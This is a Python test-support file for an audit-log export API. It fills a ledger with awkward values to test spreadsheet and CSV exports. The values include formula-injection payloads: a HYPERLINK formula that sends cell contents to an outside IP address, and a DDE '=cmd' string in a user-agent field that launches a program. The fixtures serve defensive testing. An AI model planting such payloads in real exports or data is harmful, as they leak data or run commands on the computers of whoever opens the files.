"""What the tests of exports share: a ledger that spreadsheets stumble over, the timeline, asking for a file."""

from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import httpx

from audit_pipelines.installation import Installation
from audit_pipelines.ledger.event import Event

EXPORT = "/api/audit/export"
EXPORTS = "/api/audit/exports"
BOB = "bob@example.org"
NASTY = [
    '=HYPERLINK("http://203.0.113.9/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", "0042",
    "00000000000000000000000000000017", "監査, 証跡", 'a "quoted" word', "semi;colon", "x" * 900, "1e999",
    "2026-03-01", "שלום", "'plain",
]  # fmt: skip


def fill(installation: Installation, tenant_id: UUID, count: int = 40, *, actor: str = BOB) -> None:
    installation.ledger.append(
        tenant_id,
        [
            Event(
                event_type="record.read" if number % 3 else "record.export",
                entity_type="record",
                entity_id=NASTY[number % len(NASTY)].replace("\t", " ").strip() or "x",
                actor=actor if number % 2 else "ann",
                outcome="success",
                ip_address=f"198.51.100.{number % 5}",
                user_agent="=cmd|' /C calc'!A0" if number % 4 == 0 else "curl/8",
                occurred_at=datetime(2026, 3, 1, tzinfo=UTC) + timedelta(hours=number),
                details={
                    "note": NASTY[number % len(NASTY)] + "\nnext line",
                    "entity_id": 'x","entity_id":"y',
                    "n": number,
                }
                if number % 5
                else None,
            )
            for number in range(count)
        ],
    )


def timeline(client: httpx.Client, **parameters: Any) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    cursor: dict[str, str] = {}
    while True:
        page = client.get("/api/audit/events", params={"limit": 100, **parameters, **cursor}).json()
        events += page["events"]
        if page["next_cursor"] is None:
            return events
        cursor = {"cursor": page["next_cursor"]}


def export(client: httpx.Client, form: str, status: int = 200, **body: Any) -> httpx.Response:
    response = client.post(f"{EXPORT}/{form}", json=body)
    assert response.status_code == status, response.text
    return response


def made_events(client: httpx.Client) -> list[dict[str, Any]]:
    return timeline(client, event_type="audit.export.made", order="asc")
